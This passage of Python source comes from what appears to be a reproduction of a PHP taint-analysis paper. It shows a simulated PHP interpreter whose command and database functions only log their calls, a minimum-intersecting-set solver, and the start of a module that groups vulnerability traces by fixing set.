                base.unset(self._eval(operand.index, scope))

    # -- expressions -----------------------------------------------------------

    def _eval(self, expr: ast.Expression, scope: dict) -> object:
        self._tick()
        if isinstance(expr, ast.Literal):
            return expr.value
        if isinstance(expr, ast.Variable):
            return self._read_var(expr.name, scope)
        if isinstance(expr, ast.ArrayDim):
            base = self._eval(expr.base, scope)
            if isinstance(base, PhpArray):
                if expr.index is None:
                    return None
                return base.get(self._eval(expr.index, scope))
            if isinstance(base, str) and expr.index is not None:
                index = int(to_number(self._eval(expr.index, scope)))
                return base[index] if 0 <= index < len(base) else ""
            return None
        if isinstance(expr, ast.PropertyFetch):
            obj = self._eval(expr.object, scope)
            if isinstance(obj, PhpObject):
                return obj.properties.get(expr.property)
            return None
        if isinstance(expr, ast.StaticPropertyFetch):
            return self.globals.get(f"{expr.class_name}::{expr.property}")
        if isinstance(expr, ast.InterpolatedString):
            parts = []
            for part in expr.parts:
                if isinstance(part, str):
                    parts.append(part)
                else:
                    parts.append(to_string(self._eval(part, scope)))
            return "".join(parts)
        if isinstance(expr, ast.ArrayLiteral):
            array = PhpArray()
            for item in expr.items:
                key = self._eval(item.key, scope) if item.key is not None else None
                array.set(key, self._eval(item.value, scope))
            return array
        if isinstance(expr, ast.Binary):
            return self._eval_binary(expr, scope)
        if isinstance(expr, ast.Unary):
            operand = self._eval(expr.operand, scope)
            if expr.op == "!":
                return not to_bool(operand)
            if expr.op == "-":
                return -to_number(operand)
            if expr.op == "+":
                return to_number(operand)
            if expr.op == "~":
                return ~int(to_number(operand))
            raise PhpRuntimeError(f"unsupported unary {expr.op}")
        if isinstance(expr, ast.Cast):
            operand = self._eval(expr.operand, scope)
            if expr.target in ("int", "integer"):
                return int(to_number(operand))
            if expr.target in ("float", "double", "real"):
                return float(to_number(operand))
            if expr.target in ("bool", "boolean"):
                return to_bool(operand)
            if expr.target == "string":
                return to_string(operand)
            if expr.target == "array":
                return operand if isinstance(operand, PhpArray) else PhpArray({0: operand})
            return operand
        if isinstance(expr, ast.Ternary):
            condition = self._eval(expr.condition, scope)
            if to_bool(condition):
                return condition if expr.then is None else self._eval(expr.then, scope)
            return self._eval(expr.orelse, scope)
        if isinstance(expr, ast.Assign):
            value = self._eval(expr.value, scope)
            if expr.op:
                old = self._eval(expr.target, scope)
                value = self._apply_binary(expr.op, old, value)
            return self._assign_to(expr.target, value, scope)
        if isinstance(expr, ast.ListAssign):
            value = self._eval(expr.value, scope)
            if isinstance(value, PhpArray):
                for index, target in enumerate(expr.targets):
                    if target is not None:
                        self._assign_to(target, value.get(index), scope)
            return value
        if isinstance(expr, ast.IncDec):
            old = to_number(self._eval(expr.target, scope) or 0)
            new = old + 1 if expr.op == "++" else old - 1
            self._assign_to(expr.target, new, scope)
            return new if expr.prefix else old
        if isinstance(expr, ast.FunctionCall):
            return self._call_function(expr, scope)
        if isinstance(expr, ast.MethodCall):
            obj = self._eval(expr.object, scope)
            if isinstance(obj, PhpObject):
                method = self._resolve_method(obj.class_name, expr.method)
                if method is not None:
                    return self._call_method(obj, method, expr.args, scope)
            # Objects without a declared class are data-only; method calls
            # on a mock "db" object route to the database for realism.
            args = [self._eval(a, scope) for a in expr.args]
            if expr.method.lower() in ("query", "execute") and args:
                sql = to_string(args[0])
                self.env.sink_log.append((f"->{expr.method}", (sql,)))
                return self.env.database.execute(sql)
            return None
        if isinstance(expr, ast.StaticCall):
            method = self._resolve_method(expr.class_name, expr.method)
            if method is not None:
                receiver = PhpObject(expr.class_name)
                return self._call_method(receiver, method, expr.args, scope)
            for arg in expr.args:
                self._eval(arg, scope)
            return None
        if isinstance(expr, ast.New):
            obj = PhpObject(expr.class_name)
            chain = self._class_chain(expr.class_name)
            for decl in reversed(chain):  # parents first
                for prop in decl.properties:
                    obj.properties[prop.name] = (
                        self._eval(prop.default, scope) if prop.default is not None else None
                    )
            constructor = None
            if chain:
                constructor = self._resolve_method(
                    expr.class_name, chain[0].name
                ) or self._resolve_method(expr.class_name, "__construct")
            if constructor is not None:
                self._call_method(obj, constructor, expr.args, scope)
            else:
                for arg in expr.args:
                    self._eval(arg, scope)
            return obj
        if isinstance(expr, ast.IssetExpr):
            return all(self._isset(op, scope) for op in expr.operands)
        if isinstance(expr, ast.EmptyExpr):
            return not to_bool(self._eval(expr.operand, scope))
        if isinstance(expr, ast.ErrorSuppress):
            try:
                return self._eval(expr.operand, scope)
            except PhpFatalError:
                raise
            except PhpRuntimeError:
                return None
        if isinstance(expr, ast.IncludeExpr):
            return self._include(expr, scope)
        if isinstance(expr, ast.ExitExpr):
            if expr.argument is not None:
                value = self._eval(expr.argument, scope)
                if isinstance(value, str):
                    self.env.write(value)
            raise _ExitSignal()
        if isinstance(expr, ast.PrintExpr):
            self.env.write(to_string(self._eval(expr.argument, scope)))
            return 1
        raise PhpRuntimeError(f"unsupported expression {type(expr).__name__}")

    def _isset(self, operand: ast.Expression, scope: dict) -> bool:
        if isinstance(operand, ast.Variable):
            holder = self._scope_for(operand.name, scope)
            return holder.get(operand.name) is not None
        if isinstance(operand, ast.ArrayDim):
            base = self._eval(operand.base, scope)
            if isinstance(base, PhpArray) and operand.index is not None:
                return base.get(self._eval(operand.index, scope)) is not None
            return False
        try:
            return self._eval(operand, scope) is not None
        except PhpRuntimeError:
            return False

    def _eval_binary(self, expr: ast.Binary, scope: dict) -> object:
        op = expr.op
        if op in ("&&", "and"):
            return to_bool(self._eval(expr.left, scope)) and to_bool(self._eval(expr.right, scope))
        if op in ("||", "or"):
            return to_bool(self._eval(expr.left, scope)) or to_bool(self._eval(expr.right, scope))
        if op == "xor":
            return to_bool(self._eval(expr.left, scope)) != to_bool(self._eval(expr.right, scope))
        left = self._eval(expr.left, scope)
        right = self._eval(expr.right, scope)
        return self._apply_binary(op, left, right)

    def _apply_binary(self, op: str, left: object, right: object) -> object:
        if op == ".":
            return to_string(left) + to_string(right)
        if op == "+":
            if isinstance(left, PhpArray) and isinstance(right, PhpArray):
                merged = right.copy()
                for key, value in left.items():
                    merged.set(key, value)
                return merged
            return to_number(left) + to_number(right)
        if op == "-":
            return to_number(left) - to_number(right)
        if op == "*":
            return to_number(left) * to_number(right)
        if op == "/":
            divisor = to_number(right)
            if divisor == 0:
                return False  # PHP4 semantics: warning + false
            result = to_number(left) / divisor
            return int(result) if isinstance(left, int) and isinstance(right, int) and result == int(result) else result
        if op == "%":
            divisor = int(to_number(right))
            if divisor == 0:
                return False
            return int(to_number(left)) % divisor if (to_number(left) >= 0) == (divisor >= 0) else -(abs(int(to_number(left))) % abs(divisor))
        if op == "==":
            return loose_equals(left, right)
        if op == "!=":
            return not loose_equals(left, right)
        if op == "===":
            return type(left) is type(right) and left == right
        if op == "!==":
            return not (type(left) is type(right) and left == right)
        if op in ("<", "<=", ">", ">="):
            if isinstance(left, str) and isinstance(right, str):
                a, b = left, right
            else:
                a, b = to_number(left), to_number(right)
            if op == "<":
                return a < b
            if op == "<=":
                return a <= b
            if op == ">":
                return a > b
            return a >= b
        if op == "&":
            return int(to_number(left)) & int(to_number(right))
        if op == "|":
            return int(to_number(left)) | int(to_number(right))
        if op == "^":
            return int(to_number(left)) ^ int(to_number(right))
        if op == "<<":
            return int(to_number(left)) << int(to_number(right))
        if op == ">>":
            return int(to_number(left)) >> int(to_number(right))
        raise PhpRuntimeError(f"unsupported binary operator {op!r}")

    # -- includes -------------------------------------------------------------------

    def _include(self, expr: ast.IncludeExpr, scope: dict) -> object:
        path = to_string(self._eval(expr.path, scope))
        if expr.kind.endswith("_once") and path in self._included:
            return True
        source = self.files.get(path)
        if source is None:
            if expr.kind.startswith("require"):
                raise PhpFatalError(f"required file {path!r} not found")
            return False
        self._included.add(path)
        program = parse(source, path)
        self._hoist_functions(program.statements)
        self._exec_all(program.statements, scope)
        return True

    # -- function calls ---------------------------------------------------------------

    def _call_function(self, expr: ast.FunctionCall, scope: dict) -> object:
        name = expr.name.lower()
        declared = self.functions.get(name)
        if declared is not None:
            return self._call_user_function(declared, expr, scope)
        builtin = _BUILTINS.get(name)
        if builtin is not None:
            args = [self._eval(a, scope) for a in expr.args]
            return builtin(self, args, expr, scope)
        raise PhpFatalError(f"call to undefined function {expr.name}()")

    def _call_method(
        self,
        receiver: PhpObject,
        decl: ast.FunctionDecl,
        args: tuple[ast.Expression, ...],
        scope: dict,
    ) -> object:
        local: dict[str, object] = {"this": receiver}
        for index, param in enumerate(decl.parameters):
            if index < len(args):
                local[param.name] = self._eval(args[index], scope)
            elif param.default is not None:
                local[param.name] = self._eval(param.default, scope)
            else:
                local[param.name] = None
        try:
            self._exec_all(decl.body.statements, local)
            result: object = None
        except _ReturnSignal as signal:
            result = signal.value
        for index, param in enumerate(decl.parameters):
            if param.by_reference and index < len(args):
                arg = args[index]
                if isinstance(arg, (ast.Variable, ast.ArrayDim, ast.PropertyFetch)):
                    self._assign_to(arg, local.get(param.name), scope)
        return result

    def _call_user_function(
        self, decl: ast.FunctionDecl, call: ast.FunctionCall, scope: dict
    ) -> object:
        local: dict[str, object] = {}
        for index, param in enumerate(decl.parameters):
            if index < len(call.args):
                local[param.name] = self._eval(call.args[index], scope)
            elif param.default is not None:
                local[param.name] = self._eval(param.default, scope)
            else:
                local[param.name] = None
        try:
            self._exec_all(decl.body.statements, local)
            result: object = None
        except _ReturnSignal as signal:
            result = signal.value
        for index, param in enumerate(decl.parameters):
            if param.by_reference and index < len(call.args):
                arg = call.args[index]
                if isinstance(arg, (ast.Variable, ast.ArrayDim, ast.PropertyFetch)):
                    self._assign_to(arg, local.get(param.name), scope)
        return result


# -- builtin functions ---------------------------------------------------------

def _builtin(fn):
    return fn


def _sink(category: str):
    """Builtin factory for sensitive output channels that just log."""

    def handler(interp: Interpreter, args, expr, scope):
        rendered = tuple(to_string(a) for a in args)
        interp.env.sink_log.append((expr.name.lower(), rendered))
        if category == "command":
            interp.env.command_log.extend(rendered[:1])
        return ""

    return handler


def _mysql_query(interp: Interpreter, args, expr, scope):
    sql = to_string(args[0]) if args else ""
    interp.env.sink_log.append(("mysql_query", (sql,)))
    return interp.env.database.execute(sql)


def _mysql_fetch_array(interp: Interpreter, args, expr, scope):
    result = args[0] if args else None
    if isinstance(result, QueryResult):
        row = result.fetch()
        if row is None:
            return False
        return PhpArray(dict(row))
    return False


def _extract(interp: Interpreter, args, expr, scope):
    array = args[0] if args else None
    count = 0
    if isinstance(array, PhpArray):
        for key, value in array.items():
            if isinstance(key, str) and key.isidentifier():
                interp._scope_for(key, scope)[key] = value
                count += 1
    return count


def _implode(interp, args, expr, scope):
    if len(args) == 1:
        glue, pieces = "", args[0]
    else:
        glue, pieces = to_string(args[0]), args[1]
    if isinstance(pieces, PhpArray):
        return glue.join(to_string(v) for v in pieces.values())
    return ""


def _explode(interp, args, expr, scope):
    separator = to_string(args[0]) if args else ""
    text = to_string(args[1]) if len(args) > 1 else ""
    if not separator:
        return False
    return PhpArray(dict(enumerate(text.split(separator))))


def _str_replace(interp, args, expr, scope):
    search, replace, subject = args[0], args[1], to_string(args[2])
    searches = search.values() if isinstance(search, PhpArray) else [search]
    replaces = replace.values() if isinstance(replace, PhpArray) else [replace]
    for i, s in enumerate(searches):
        r = replaces[i] if i < len(replaces) else (replaces[-1] if len(replaces) == 1 else "")
        subject = subject.replace(to_string(s), to_string(r))
    return subject


def _sprintf(interp, args, expr, scope):
    template = to_string(args[0]) if args else ""
    values = [a if isinstance(a, (int, float)) else to_string(a) for a in args[1:]]
    try:
        return template % tuple(values)
    except (TypeError, ValueError):
        return template


def _array_push(interp, args, expr, scope):
    if not args or not isinstance(args[0], PhpArray):
        return False
    target = args[0]
    for value in args[1:]:
        target.set(None, value)
    # Write back when the first argument is a variable (PHP passes the
    # array by reference to array_push).
    if expr.args and isinstance(expr.args[0], ast.Variable):
        interp._scope_for(expr.args[0].name, scope)[expr.args[0].name] = target
    return len(target)


def _array_pop(interp, args, expr, scope):
    if not args or not isinstance(args[0], PhpArray) or not len(args[0]):
        return None
    target = args[0]
    last_key = target.keys()[-1]
    value = target.get(last_key)
    target.unset(last_key)
    return value


def _array_shift(interp, args, expr, scope):
    if not args or not isinstance(args[0], PhpArray) or not len(args[0]):
        return None
    target = args[0]
    first_key = target.keys()[0]
    value = target.get(first_key)
    target.unset(first_key)
    return value


def _array_slice(interp, args, expr, scope):
    if not args or not isinstance(args[0], PhpArray):
        return PhpArray()
    offset = int(to_number(args[1])) if len(args) > 1 else 0
    length = int(to_number(args[2])) if len(args) > 2 and args[2] is not None else None
    values = args[0].values()
    sliced = values[offset:] if length is None else values[offset : offset + length]
    return PhpArray(dict(enumerate(sliced)))


def _sort(interp, args, expr, scope):
    if not args or not isinstance(args[0], PhpArray):
        return False
    ordered = sorted(args[0].values(), key=lambda v: (isinstance(v, str), to_number(v), to_string(v)))
    rebuilt = PhpArray(dict(enumerate(ordered)))
    if expr.args and isinstance(expr.args[0], ast.Variable):
        interp._scope_for(expr.args[0].name, scope)[expr.args[0].name] = rebuilt
    return True


def _str_pad(interp, args, expr, scope):
    text = to_string(args[0]) if args else ""
    width = int(to_number(args[1])) if len(args) > 1 else 0
    pad = to_string(args[2]) if len(args) > 2 else " "
    pad_type = int(to_number(args[3])) if len(args) > 3 else 1  # STR_PAD_RIGHT
    if len(text) >= width or not pad:
        return text
    missing = width - len(text)
    filler = (pad * (missing // len(pad) + 1))[:missing]
    if pad_type == 0:  # STR_PAD_LEFT
        return filler + text
    if pad_type == 2:  # STR_PAD_BOTH
        left = missing // 2
        return filler[:left] + text + filler[: missing - left]
    return text + filler


def _strpos(interp, args, expr, scope):
    haystack = to_string(args[0]) if args else ""
    needle = to_string(args[1]) if len(args) > 1 else ""
    offset = int(to_number(args[2])) if len(args) > 2 else 0
    index = haystack.find(needle, offset)
    return False if index == -1 else index



_BUILTINS = {
    "htmlspecialchars": _builtin(lambda i, a, e, s: html_escape(to_string(a[0])) if a else ""),
    "htmlentities": _builtin(lambda i, a, e, s: html_escape(to_string(a[0])) if a else ""),
    "addslashes": _builtin(lambda i, a, e, s: sql_escape(to_string(a[0])) if a else ""),
    "mysql_escape_string": _builtin(lambda i, a, e, s: sql_escape(to_string(a[0])) if a else ""),
    "mysql_real_escape_string": _builtin(lambda i, a, e, s: sql_escape(to_string(a[0])) if a else ""),
    "stripslashes": _builtin(lambda i, a, e, s: to_string(a[0]).replace("\\", "") if a else ""),
    "strip_tags": _builtin(lambda i, a, e, s: __import__("re").sub(r"<[^>]*>", "", to_string(a[0])) if a else ""),
    "__webssari_sanitize": _builtin(lambda i, a, e, s: sanitize_value(a[0]) if a else ""),
    "intval": _builtin(lambda i, a, e, s: int(to_number(a[0])) if a else 0),
    "floatval": _builtin(lambda i, a, e, s: float(to_number(a[0])) if a else 0.0),
    "strval": _builtin(lambda i, a, e, s: to_string(a[0]) if a else ""),
    "strlen": _builtin(lambda i, a, e, s: len(to_string(a[0])) if a else 0),
    "count": _builtin(lambda i, a, e, s: len(a[0]) if a and isinstance(a[0], PhpArray) else (0 if not a or a[0] is None else 1)),
    "sizeof": _builtin(lambda i, a, e, s: len(a[0]) if a and isinstance(a[0], PhpArray) else (0 if not a or a[0] is None else 1)),
    "substr": _builtin(
        lambda i, a, e, s: to_string(a[0])[int(to_number(a[1])) :][: int(to_number(a[2]))]
        if len(a) > 2
        else to_string(a[0])[int(to_number(a[1])) :]
        if len(a) > 1
        else ""
    ),
    "trim": _builtin(lambda i, a, e, s: to_string(a[0]).strip() if a else ""),
    "ltrim": _builtin(lambda i, a, e, s: to_string(a[0]).lstrip() if a else ""),
    "rtrim": _builtin(lambda i, a, e, s: to_string(a[0]).rstrip() if a else ""),
    "strtolower": _builtin(lambda i, a, e, s: to_string(a[0]).lower() if a else ""),
    "strtoupper": _builtin(lambda i, a, e, s: to_string(a[0]).upper() if a else ""),
    "ucfirst": _builtin(lambda i, a, e, s: to_string(a[0]).capitalize() if a else ""),
    "str_repeat": _builtin(lambda i, a, e, s: to_string(a[0]) * int(to_number(a[1])) if len(a) > 1 else ""),
    "strrev": _builtin(lambda i, a, e, s: to_string(a[0])[::-1] if a else ""),
    "nl2br": _builtin(lambda i, a, e, s: to_string(a[0]).replace("\n", "<br />\n") if a else ""),
    "md5": _builtin(lambda i, a, e, s: __import__("hashlib").md5(to_string(a[0]).encode()).hexdigest() if a else ""),
    "sha1": _builtin(lambda i, a, e, s: __import__("hashlib").sha1(to_string(a[0]).encode()).hexdigest() if a else ""),
    "urlencode": _builtin(lambda i, a, e, s: __import__("urllib.parse", fromlist=["quote_plus"]).quote_plus(to_string(a[0])) if a else ""),
    "rawurlencode": _builtin(lambda i, a, e, s: __import__("urllib.parse", fromlist=["quote"]).quote(to_string(a[0]), safe="") if a else ""),
    "implode": _implode,
    "join": _implode,
    "explode": _explode,
    "str_replace": _str_replace,
    "sprintf": _sprintf,
    "number_format": _builtin(lambda i, a, e, s: f"{to_number(a[0]):,.0f}" if a else "0"),
    "is_array": _builtin(lambda i, a, e, s: isinstance(a[0], PhpArray) if a else False),
    "is_numeric": _builtin(lambda i, a, e, s: isinstance(a[0], (int, float)) or (isinstance(a[0], str) and a[0].strip().replace(".", "", 1).lstrip("-").isdigit()) if a else False),
    "is_string": _builtin(lambda i, a, e, s: isinstance(a[0], str) if a else False),
    "array_keys": _builtin(lambda i, a, e, s: PhpArray(dict(enumerate(a[0].keys()))) if a and isinstance(a[0], PhpArray) else PhpArray()),
    "array_values": _builtin(lambda i, a, e, s: PhpArray(dict(enumerate(a[0].values()))) if a and isinstance(a[0], PhpArray) else PhpArray()),
    "array_merge": _builtin(lambda i, a, e, s: _array_merge(a)),
    "array_push": _array_push,
    "array_pop": _array_pop,
    "array_shift": _array_shift,
    "array_slice": _array_slice,
    "array_reverse": _builtin(
        lambda i, a, e, s: PhpArray(dict(enumerate(reversed(a[0].values()))))
        if a and isinstance(a[0], PhpArray)
        else PhpArray()
    ),
    "array_unique": _builtin(
        lambda i, a, e, s: PhpArray(
            dict(enumerate(dict.fromkeys(to_string(v) for v in a[0].values())))
        )
        if a and isinstance(a[0], PhpArray)
        else PhpArray()
    ),
    "sort": _sort,
    "str_pad": _str_pad,
    "strpos": _strpos,
    "ucwords": _builtin(lambda i, a, e, s: to_string(a[0]).title() if a else ""),
    "lcfirst": _builtin(
        lambda i, a, e, s: (to_string(a[0])[:1].lower() + to_string(a[0])[1:]) if a else ""
    ),
    "wordwrap": _builtin(
        lambda i, a, e, s: __import__("textwrap").fill(
            to_string(a[0]), int(to_number(a[1])) if len(a) > 1 else 75
        )
        if a
        else ""
    ),
    "max": _builtin(lambda i, a, e, s: max((to_number(x) for x in a), default=False)),
    "min": _builtin(lambda i, a, e, s: min((to_number(x) for x in a), default=False)),
    "abs": _builtin(lambda i, a, e, s: abs(to_number(a[0])) if a else 0),
    "round": _builtin(
        lambda i, a, e, s: round(to_number(a[0]), int(to_number(a[1])) if len(a) > 1 else 0)
        if a
        else 0.0
    ),
    "floor": _builtin(lambda i, a, e, s: float(__import__("math").floor(to_number(a[0]))) if a else 0.0),
    "ceil": _builtin(lambda i, a, e, s: float(__import__("math").ceil(to_number(a[0]))) if a else 0.0),
    "range": _builtin(
        lambda i, a, e, s: PhpArray(
            dict(
                enumerate(
                    range(
                        int(to_number(a[0])),
                        int(to_number(a[1])) + 1 if len(a) > 1 else int(to_number(a[0])) + 1,
                    )
                )
            )
        )
        if a
        else PhpArray()
    ),
    "gettype": _builtin(
        lambda i, a, e, s: __import__("repro.interp.values", fromlist=["type_name"]).type_name(a[0])
        if a
        else "NULL"
    ),
    "isset_or": _builtin(lambda i, a, e, s: a[0] if a and a[0] is not None else (a[1] if len(a) > 1 else None)),
    "htmlspecialchars_decode": _builtin(
        lambda i, a, e, s: to_string(a[0])
        .replace("&amp;", "&")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", '"')
        .replace("&#039;", "'")
        if a
        else ""
    ),
    "in_array": _builtin(lambda i, a, e, s: any(loose_equals(a[0], v) for v in a[1].values()) if len(a) > 1 and isinstance(a[1], PhpArray) else False),
    "array_key_exists": _builtin(lambda i, a, e, s: a[1].has(a[0]) if len(a) > 1 and isinstance(a[1], PhpArray) else False),
    "mysql_query": _mysql_query,
    "mysql_db_query": _mysql_query,
    "mysql_unbuffered_query": _mysql_query,
    "dosql": _mysql_query,
    "mysql_fetch_array": _mysql_fetch_array,
    "mysql_fetch_assoc": _mysql_fetch_array,
    "mysql_fetch_row": _mysql_fetch_array,
    "mysql_fetch_object": _mysql_fetch_array,
    "mysql_num_rows": _builtin(lambda i, a, e, s: len(a[0].rows) if a and isinstance(a[0], QueryResult) else 0),
    "mysql_connect": _builtin(lambda i, a, e, s: True),
    "mysql_select_db": _builtin(lambda i, a, e, s: True),
    "mysql_error": _builtin(lambda i, a, e, s: ""),
    "extract": _extract,
    "getenv": _builtin(lambda i, a, e, s: ""),
    "header": _builtin(lambda i, a, e, s: i.env.headers.append(to_string(a[0])) or "" if a else ""),
    "exec": _sink("command"),
    "system": _sink("command"),
    "passthru": _sink("command"),
    "shell_exec": _sink("command"),
    "printf": _builtin(lambda i, a, e, s: i.env.write(_sprintf(i, a, e, s)) or 1),
    "print_r": _builtin(lambda i, a, e, s: i.env.write(to_string(a[0])) or True if a else True),
    "rand": _builtin(lambda i, a, e, s: 4),  # deterministic for tests
    "time": _builtin(lambda i, a, e, s: 1_000_000_000),
    "date": _builtin(lambda i, a, e, s: "2004-06-28"),
    "function_exists": _builtin(lambda i, a, e, s: (to_string(a[0]).lower() in _BUILTINS or to_string(a[0]).lower() in i.functions) if a else False),
    "defined": _builtin(lambda i, a, e, s: False),
    "error_reporting": _builtin(lambda i, a, e, s: 0),
    "ini_set": _builtin(lambda i, a, e, s: ""),
    "session_start": _builtin(
        lambda i, a, e, s: i.globals.__setitem__(
            "_SESSION", PhpArray(dict(i.env.session_store))
        )
        or True
    ),
    "session_destroy": _builtin(
        lambda i, a, e, s: (i.env.session_store.clear(), i.globals.pop("_SESSION", None))
        and True
        or True
    ),
    "session_register": _builtin(lambda i, a, e, s: True),
    "session_id": _builtin(lambda i, a, e, s: "sess-0001"),
}


def _array_merge(arrays) -> PhpArray:
    merged = PhpArray()
    for array in arrays:
        if isinstance(array, PhpArray):
            for key, value in array.items():
                if isinstance(key, int):
                    merged.set(None, value)
                else:
                    merged.set(key, value)
    return merged


def run_php(
    source: str,
    request: HttpRequest | None = None,
    database=None,
    files: dict[str, str] | None = None,
    session: dict | None = None,
    max_steps: int = 1_000_000,
) -> ExecutionEnvironment:
    """Execute PHP source against a simulated request; return the environment.

    Pass the same ``database`` and ``session`` dictionaries across calls
    to simulate a sequence of requests against one application instance.
    """
    env = ExecutionEnvironment(request=request or HttpRequest())
    if database is not None:
        env.database = database
    if session is not None:
        env.session_store = session
    interpreter = Interpreter(environment=env, max_steps=max_steps, files=files)
    interpreter.run(source)
    return env
