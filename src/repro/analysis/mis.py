"""MINIMUM-INTERSECTING-SET — paper §3.3.4.

Given a variable set V and a collection S = {S_1, ..., S_n} of subsets of
V, find a minimum M ⊆ V such that S_i ∩ M ≠ ∅ for every i.  The paper
proves this NP-complete by reduction from VERTEX-COVER and solves it with
Chvátal's greedy SET-COVER heuristic (1 + ln|S| approximation).

This module provides:

* :func:`greedy_minimum_intersecting_set` — the paper's reduction to
  SET-COVER followed by the greedy heuristic (with optional per-element
  costs, used to make synthetic temporaries less attractive than real
  program variables).
* :func:`exact_minimum_intersecting_set` — branch-and-bound exact solver
  for tests and the ABL-MIS ablation.
* :func:`is_intersecting_set` — verifier.
* :func:`vertex_cover_instance` — the NP-completeness reduction from a
  graph, used by tests to check both solvers against known covers.
"""

from __future__ import annotations

from collections.abc import Hashable, Iterable, Sequence

__all__ = [
    "is_intersecting_set",
    "greedy_minimum_intersecting_set",
    "exact_minimum_intersecting_set",
    "vertex_cover_instance",
]


def _normalize(sets: Iterable[Iterable[Hashable]]) -> list[frozenset]:
    normalized = [frozenset(s) for s in sets]
    if any(not s for s in normalized):
        raise ValueError("an empty set can never be intersected")
    return normalized


def is_intersecting_set(sets: Iterable[Iterable[Hashable]], chosen: Iterable[Hashable]) -> bool:
    """True iff ``chosen`` intersects every set."""
    chosen = set(chosen)
    return all(set(s) & chosen for s in sets)


def greedy_minimum_intersecting_set(
    sets: Sequence[Iterable[Hashable]],
    cost: dict[Hashable, float] | None = None,
) -> set[Hashable]:
    """Chvátal's greedy heuristic via the SET-COVER reduction.

    The reduction (paper §3.3.4): the universe U is the collection of
    sets themselves; each candidate element v corresponds to the
    sub-collection S_v = {S_i | v ∈ S_i}; covering U with minimum-cost
    S_v's intersects every S_i.  The greedy rule picks, at each step, the
    element covering the most still-uncovered sets per unit cost —
    giving the 1 + ln|S| approximation guarantee of [Chvátal 1979].

    Ties break deterministically: higher coverage first, then lower
    cost, then lexicographically smallest element (by repr), so results
    are reproducible run to run.
    """
    normalized = _normalize(sets)
    if not normalized:
        return set()
    uncovered: set[int] = set(range(len(normalized)))
    covers: dict[Hashable, set[int]] = {}
    for index, s in enumerate(normalized):
        for element in s:
            covers.setdefault(element, set()).add(index)

    chosen: set[Hashable] = set()
    while uncovered:
        best = None
        best_key = None
        for element, covered in covers.items():
            gain = len(covered & uncovered)
            if gain == 0:
                continue
            element_cost = cost.get(element, 1.0) if cost else 1.0
            key = (-gain / element_cost, element_cost, repr(element))
            if best_key is None or key < best_key:
                best_key = key
                best = element
        assert best is not None  # every set is non-empty, so progress is possible
        chosen.add(best)
        uncovered -= covers[best]
    return chosen


def exact_minimum_intersecting_set(
    sets: Sequence[Iterable[Hashable]],
    max_elements: int = 24,
) -> set[Hashable]:
    """Exact minimum via depth-bounded branch-and-bound.

    Branches on an arbitrary uncovered set: one of its elements must be
    in M.  ``max_elements`` caps the candidate universe to keep the
    exponential search honest about its limits.
    """
    normalized = _normalize(sets)
    if not normalized:
        return set()
    universe = sorted({element for s in normalized for element in s}, key=repr)
    if len(universe) > max_elements:
        raise ValueError(
            f"exact solver limited to {max_elements} candidate elements, got {len(universe)}"
        )

    best: set[Hashable] | None = None

    def search(chosen: set[Hashable], remaining: list[frozenset]) -> None:
        nonlocal best
        if best is not None and len(chosen) >= len(best):
            return  # bound
        still = [s for s in remaining if not (s & chosen)]
        if not still:
            best = set(chosen)
            return
        # Branch on the smallest uncovered set (fewest children).
        pivot = min(still, key=len)
        for element in sorted(pivot, key=repr):
            search(chosen | {element}, still)

    search(set(), normalized)
    assert best is not None
    return best


def vertex_cover_instance(edges: Iterable[tuple[Hashable, Hashable]]) -> list[frozenset]:
    """The paper's NP-completeness reduction: each edge (u, v) becomes the
    set {u, v}; an intersecting set of the collection is exactly a vertex
    cover of the graph."""
    instance = []
    for u, v in edges:
        if u == v:
            instance.append(frozenset({u}))
        else:
            instance.append(frozenset({u, v}))
    return instance
