"""Error grouping and the minimal fixing set — paper §3.3.3.

Given the error trace set R produced by the BMC engine, this module:

1. collects the violating variables V_r of every trace r ∈ R,
2. builds the replacement set s_v for every violating variable,
3. computes the minimum fixing set V_R^m by solving
   ``min |V_R^m|  s.t.  ∀ v ∈ V_R^n : s_v ∩ V_R^m ≠ ∅``
   with the greedy heuristic (Lemma 2 guarantees Fix(V_R^m) is an
   effective fix for every trace), and
4. groups the individual errors by the fixing variable that repairs
   them — this grouping is what turned the paper's 980 TS-reported
   errors into 578 BMC-reported error introductions.

Synthetic temporaries (hoisted sink arguments, function-return slots)
are valid fix points — sanitizing one means sanitizing the expression at
its definition — but carry a higher greedy cost so the heuristic prefers
real program variables when either choice covers the same traces.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.mis import greedy_minimum_intersecting_set, is_intersecting_set
from repro.analysis.replacement import (
    FixCandidate,
    ReplacementSet,
    replacement_sets_for_trace,
)
from repro.bmc.checker import BMCResult
from repro.bmc.trace import CounterexampleTrace
from repro.ir.filter import php_name_of
from repro.php.span import Span

__all__ = ["ErrorGroup", "GroupingResult", "group_errors"]

def _candidate_cost(name: str) -> float:
    """Greedy cost: prefer fix points the instrumentor can patch most
    directly — plain globals first, then properties, then unfolded
    locals, then hoisted expressions."""
    from repro.ir.filter import SCOPE_SEP

    if php_name_of(name) is None:
        return 1.5  # synthetic temporary / return slot
    if SCOPE_SEP in name:
        return 1.25  # local of an unfolded function or method
    if "->" in name:
        return 1.1  # object property
    return 1.0


@dataclass
class ErrorGroup:
    """All error symptoms repaired by sanitizing one variable."""

    fix_variable: str
    #: Source-level name (None when the fix point is a hoisted expression).
    php_name: str | None
    #: Spans of the assignments that introduce the offending value — the
    #: instrumentation points.
    introduction_spans: list[Span]
    #: The (assert_id, trace) symptoms this fix repairs.
    traces: list[CounterexampleTrace] = field(default_factory=list)

    @property
    def symptom_sites(self) -> set[tuple[int, str]]:
        """Distinct (assertion id, sink function) sites covered."""
        return {(t.assert_id, t.function) for t in self.traces}

    def __len__(self) -> int:
        return len(self.traces)


@dataclass
class GroupingResult:
    """The outcome of counterexample analysis for one program."""

    #: Minimum fixing set V_R^m (IR variable names).
    fixing_set: set[str]
    groups: list[ErrorGroup]
    #: Total number of error traces analyzed (|R|).
    num_traces: int
    #: Number of distinct violated assertions (symptom sites).
    num_symptom_sites: int
    #: Replacement sets per (trace, violating variable) for inspection.
    replacement_sets: list[ReplacementSet] = field(default_factory=list)

    @property
    def num_groups(self) -> int:
        return len(self.fixing_set)

    def group_for(self, variable: str) -> ErrorGroup | None:
        for group in self.groups:
            if group.fix_variable == variable:
                return group
        return None


def group_errors(result: BMCResult, exact: bool = False) -> GroupingResult:
    """Run the full §3.3.3 analysis over a BMC result.

    ``exact=True`` solves the MINIMUM-INTERSECTING-SET exactly (branch
    and bound) instead of with the paper's greedy heuristic — feasible
